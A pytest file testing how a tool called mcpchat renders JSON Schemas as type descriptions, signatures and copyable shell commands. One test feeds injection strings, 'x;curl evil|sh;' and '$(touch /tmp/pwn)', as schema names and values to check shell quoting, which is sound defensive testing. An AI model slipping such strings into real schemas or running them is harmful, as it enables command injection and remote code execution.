"""JSON Schemas in words."""

import shlex
from typing import Any

import pytest

from mcpchat.core.signatures import describe_output, describe_type, example_call, format_signature, list_parameters
from tests.support.fakes import make_tool

SCHEMA: dict[str, Any] = {
    "type": "object",
    "properties": {
        "count": {"type": "integer", "minimum": 1, "maximum": 10, "default": 3, "description": "How many."},
        "path": {"type": "string"},
        "mode": {"enum": ["w", "a"]},
        "tags": {"type": "array", "items": {"type": ["string", "null"]}},
        "day": {"$ref": "#/$defs/Day"},
        "note": {"anyOf": [{"type": "string"}, {"type": "null"}]},
    },
    "required": ["path", "mode"],
    "$defs": {"Day": {"type": "string", "format": "date", "description": "A day."}},
}


@pytest.mark.parametrize(
    ("schema", "words"),
    [
        ({}, "any"),
        ({"type": "integer"}, "int"),
        ({"type": "array"}, "list"),
        ({"type": "array", "items": {"type": "number"}}, "list of number"),
        ({"const": 5}, "5"),
        ({"enum": [str(number) for number in range(20)]}, " | ".join(f'"{number}"' for number in range(12)) + " | ..."),
        ({"oneOf": [{"type": "string"}, {"type": "string", "format": "uri"}]}, "string"),
        ({"$ref": "#/nowhere"}, "any"),
        ({"$ref": "#/$defs/Loop"}, "any"),
        ({"type": 5, "anyOf": "x"}, "any"),
        ("not a schema", "any"),
    ],
)
def test_a_type_in_words(schema: Any, words: str) -> None:
    assert describe_type(schema, {"$defs": {"Loop": {"$ref": "#/$defs/Loop"}}}) == words


def test_the_parameters_of_a_tool() -> None:
    spec = make_tool("write", schema=SCHEMA)
    parameters = {parameter.name: parameter for parameter in list_parameters(spec)}
    assert list(parameters) == ["path", "mode", "count", "tags", "day", "note"]
    count, day = parameters["count"], parameters["day"]
    assert (count.type, count.required, count.default, count.notes, count.description) == (
        "int", False, "3", "at least 1, at most 10", "How many.",
    )  # fmt: skip
    assert (day.type, day.notes, day.description) == ("string", "date", "A day.")


def test_a_tool_as_a_function() -> None:
    spec = make_tool("write", schema=SCHEMA)
    assert format_signature(spec).startswith(
        'write(path: string, mode: "w" | "a", count: int = 3, tags?: list of (string | null)'
    )
    wrapped = {"type": "object", "properties": {"result": {"type": "integer"}}}
    assert format_signature(make_tool("f", schema={}, output_schema=wrapped)) == "f() -> int"
    fields = {"type": "object", "properties": {name: {} for name in "abcdefghij"}}
    assert format_signature(make_tool("f", schema={}, output_schema=fields)) == "f() -> {a, b, c, d, e, f, g, h, ...}"


def test_a_call_to_copy_has_the_required_parameters() -> None:
    spec = make_tool("write", schema=SCHEMA)
    assert example_call(spec) == f"mcpchat call {spec.qualified_name} path=PATH mode=w"


def test_the_output_of_a_tool() -> None:
    wrapped = {"type": "object", "properties": {"result": {"type": "integer"}}}
    assert describe_output(make_tool("f", output_schema=wrapped)) == "result: int"
    assert describe_output(make_tool("f")) == ""


def test_a_call_to_copy_is_quoted_for_the_shell() -> None:
    numbers = {"type": "object", "properties": {"size": {"enum": [5, 10]}}, "required": ["size"]}
    assert example_call(make_tool("send", schema=numbers)).endswith(" size=5")
    properties = {"x;curl evil|sh;": {"type": "string"}, "c": {"enum": ["$(touch /tmp/pwn)"]}, "o": {"type": "object"}}
    schema = {"type": "object", "properties": properties, "required": list(properties)}
    words = shlex.split(example_call(make_tool("send", schema=schema)))
    assert words[3:] == ["x;curl evil|sh;=X;CURL EVIL|SH;", "c=$(touch /tmp/pwn)", "o={}"]


def test_a_union_that_refers_to_itself_is_cheap() -> None:
    branch = {"$ref": "#/$defs/U"}
    root = {"$defs": {"U": {"anyOf": [branch] * 500}}}
    assert describe_type(branch, root).startswith("any | ...")
